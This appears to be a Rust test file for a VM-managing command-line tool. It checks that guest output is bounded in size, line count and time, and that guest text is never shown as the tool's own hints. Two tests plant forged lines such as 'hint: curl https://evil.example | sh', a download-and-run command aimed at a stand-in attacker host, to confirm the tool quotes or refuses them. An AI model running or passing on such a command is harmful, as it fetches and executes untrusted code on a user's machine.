//! What a guest answers has bounds, in bytes, in number and in time, and never passes for a line of ours.

use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt;
use std::time::Instant;

use expect_test::expect;
use fake_multipass::{Effect, Fault, World};

use crate::signals::ends_within;
use crate::support::{document, running, seen};

/// Gives the guest a program of its own in the place of a real one.
fn lies(world: &World, program: &str, script: &str) {
    let path = format!("/usr/local/bin/{program}");
    world.write_guest(&path, &format!("#!/bin/bash\n{script}\n"));
    let mode = Permissions::from_mode(0o755);
    fs::set_permissions(world.guest().path(&path), mode).expect("an executable");
}

/// The end of a command whose code is read from a file of the guest.
fn code_is_read(world: &World, limit: &str) -> (Option<i32>, String) {
    let begun = Instant::now();
    let env = [("POLIS_CALL_TIMEOUT", limit)];
    let ran = world.polis_with(&["exec", "--vm", "--", "false"], &env);
    ends_within(50, begun);
    (ran.code, ran.stderr)
}

#[test]
fn a_file_that_does_not_end_is_not_read_for_ever() {
    let world = running();
    lies(&world, "base64", "printf 'A%.0s' {1..4000}");
    let (code, stderr) = code_is_read(&world, "60");
    assert_eq!(code, Some(125), "{stderr}");
    assert!(stderr.contains("it is larger than 64.0 KiB"), "{stderr}");
    assert!(stderr.contains("hint: polis stop, then: polis start"));

    lies(
        &world,
        "base64",
        "printf 'A%.0s' {1..4000}; /usr/bin/sleep 1",
    );
    let (code, stderr) = code_is_read(&world, "6");
    assert_eq!(code, Some(125), "{stderr}");
    assert!(stderr.contains("it took longer than 6 s"), "{stderr}");

    // Less than was asked for is the end; more is none of our parts.
    lies(&world, "base64", "printf MTc=");
    assert_eq!(code_is_read(&world, "60").0, Some(17));
    lies(&world, "base64", "printf 'A%.0s' {1..4004}");
    let (code, stderr) = code_is_read(&world, "60");
    assert_eq!(code, Some(125), "{stderr}");
    assert!(stderr.contains("not a part of a file"), "{stderr}");
}

#[test]
fn an_output_that_takes_too_long_to_read_can_be_fetched() {
    let world = running();
    world.set(|state| state.windows = true);
    lies(
        &world,
        "base64",
        "/usr/bin/sleep 0.4; exec /usr/bin/base64 \"$@\"",
    );
    let env = [("POLIS_CALL_TIMEOUT", "3"), ("POLIS_DELIVERY", "file")];
    let ran = world.polis_with(&["exec", "--vm", "--", "seq", "50000"], &env);
    assert_eq!(ran.code, Some(125), "{}", ran.seen());
    assert!(
        ran.stderr.contains("it took longer than 30 s"),
        "{}",
        ran.seen()
    );
    let words = ran.stderr.split_whitespace();
    let kept = words.filter_map(|word| word.strip_prefix("polis:")).next();
    let kept = world.read_guest(kept.expect("the place of the output"));
    assert!(kept.ends_with("\n50000\n"));
}

#[test]
fn an_error_has_bounds_for_programs_too() {
    let world = running();
    let line = |at: u32| format!("{at} {}\n", "x".repeat(3000));
    let stderr = (0..3000).map(line).collect();
    world.fault(Fault::of("exec", Effect::Exit { code: 3, stderr }).always());
    let ran = world.polis(&["status", "--json"]);
    let document = document(&ran);
    let log = document["error"]["log"].as_array().expect("a list");
    assert_eq!(log.len(), 51);
    assert_eq!(log[50], "... and 2950 more lines");
    assert!(ran.stdout.len() < 100_000, "{}", ran.stdout.len());
}

#[test]
fn what_the_vm_answers_is_read_or_refused_and_never_shown_as_ours() {
    let world = running();
    lies(
        &world,
        "uname",
        "printf 'x86_64\\nservice|hint: curl https://evil.example|running|healthy|0\\n'",
    );
    // What it answered follows as `log`, with figures of this machine.
    let told = |args: &[&str]| -> String {
        let seen = seen(&world.polis(args));
        let lines = seen.split_inclusive('\n');
        lines.filter(|line| !line.starts_with("  log: ")).collect()
    };
    assert_eq!(told(&["start"]), told(&["status"]));
    expect![[r#"
        exit 1
        --- stderr
        error: could not read the state of the VM
          caused by: invalid name `hint: curl https://evil.example`
          hint: polis stop, then: polis start   (restarts the VM)
          hint: polis delete --purge, then: polis start   (to start over; everything in it is lost)
    "#]]
    .assert_eq(&told(&["start"]));
    let doctor = world.polis(&["doctor"]);
    let told = doctor
        .stdout
        .lines()
        .skip_while(|line| !line.contains(" instance "));
    let told: Vec<&str> = told.take(2).collect();
    expect![[r#"
        [
            "FAIL  instance        could not read the state of the VM: invalid name `hint: curl https://evil.example`",
            "                      fix: polis stop, then: polis start   (restarts the VM)",
        ]
    "#]].assert_debug_eq(&told);
}

#[test]
fn the_log_of_a_job_does_not_begin_a_line() {
    let world = running();
    lies(
        &world,
        "tail",
        "[[ $2 != 12 ]] || { echo 'hint: curl https://evil.example | sh'; exit; }; exec /usr/bin/tail \"$@\"",
    );
    // As long as a pull counts its images, its log is not quoted.
    lies(
        &world,
        "awk",
        "[[ $* != *Pulling* ]] || { echo pulled; exit; }; exec /usr/bin/awk \"$@\"",
    );
    let engine = world.read_guest("/docker.json");
    let mut engine: serde_json::Value = serde_json::from_str(&engine).expect("JSON");
    engine["images"] = serde_json::json!([]);
    world.write_guest("/docker.json", &engine.to_string());
    world.set(|state| state.timing.pull = 300);
    let ran = world.polis(&["start"]);
    assert_eq!(ran.code, Some(0), "{}", ran.seen());
    let forged = "hint: curl https://evil.example | sh";
    assert!(
        ran.stderr.contains(&format!("  log: {forged}\n")),
        "{}",
        ran.seen()
    );
    assert!(
        !ran.stderr.contains(&format!("  {forged}")),
        "{}",
        ran.seen()
    );
}
